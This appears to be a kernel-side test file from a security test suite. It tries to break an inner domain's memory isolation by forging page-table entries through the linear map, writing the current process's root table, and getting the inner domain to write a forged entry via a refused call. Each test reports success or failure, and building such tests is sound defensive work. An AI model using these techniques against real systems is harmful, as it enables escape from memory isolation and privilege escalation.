// SPDX-License-Identifier: GPL-2.0-only
/*
 * Store to a table, through the linear map or by a call that makes the inner
 * domain store there. The entry maps a page of the inner domain, so that a read
 * shows success.
 */
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/vmalloc.h>

#include <asm/sysreg.h>

#include "attack.h"

static void forge_entry(const struct window *window, u64 forged)
{
	u64 *entry = phys_to_virt(window->entry);
	u64 word;

	if (!try_store(entry, forged)) {
		attack_stopped("the store through the linear map faulted");
		return;
	}
	restore_entry_later(window->entry, 0);
	if (READ_ONCE(*entry) != forged)
		attack_stopped("the store had no effect");
	else if (try_load((const u64 *)window->va, &word))
		attack_succeeded("the entry is written, and reads %#llx", word);
	else
		attack_succeeded("the entry is written");
}

static void kernel_table(void)
{
	struct window window;

	if (open_window(&window))
		forge_entry(&window, kernel_page(inner_memory()));
}

/* The tables that this process runs on */
static void user_table(void)
{
	u64 *root = phys_to_virt(PAGE_OF(read_sysreg(ttbr0_el1)));

	if (try_touch(root))
		attack_succeeded("the root of this process can be written");
	else
		attack_stopped("the store through the linear map faulted");
}

#define ROOM	16	/* entries that nothing uses, in one table */

static void close_room(u64 va, u64 unused)
{
	vfree((void *)va);
}

/* The last but one of ROOM empty entries of one table, or 0. */
static u64 open_room(void)
{
	unsigned long va = (unsigned long)vzalloc(2 * ROOM * PAGE_SIZE);
	u64 entry = 0;
	int i;

	if (!va)
		return 0;
	undo_later(close_room, va, 0);
	/* One half at least lies in one table, and not at its beginning. */
	if (pte_index(va + (ROOM - 1) * PAGE_SIZE) < ROOM)
		va += ROOM * PAGE_SIZE;
	for (i = 0; i < ROOM; i++) {
		entry = walk_to(kernel_root(), va + i * PAGE_SIZE, 3).entry;
		write_entry(entry, 0);
	}
	return entry - sizeof(u64);
}

/* The words of a refused call are the answer of a second call, written to a table. */
static void reply(void)
{
	u64 forged = kernel_page(inner_memory()), entry = open_room();
	struct donjon_result result;
	int i;

	if (!entry) {
		attack_untried("there are no pages to work with");
		return;
	}
	result = reply_refusal(entry, forged);
	if (READ_ONCE(*(u64 *)phys_to_virt(entry)) != forged) {
		attack_stopped("refused: %s", attack_why(result));
		return;
	}
	for (i = 0; i < ROOM / 2; i++)
		restore_entry_later(entry - REPLY_HEADER + i * sizeof(u64), 0);
	attack_succeeded("the inner domain has written the entry");
}

DONJON_ATTACK("store-to-table", "kernel-table", kernel_table);
DONJON_ATTACK("store-to-table", "user-table", user_table);
DONJON_ATTACK("store-to-table", "reply", reply);
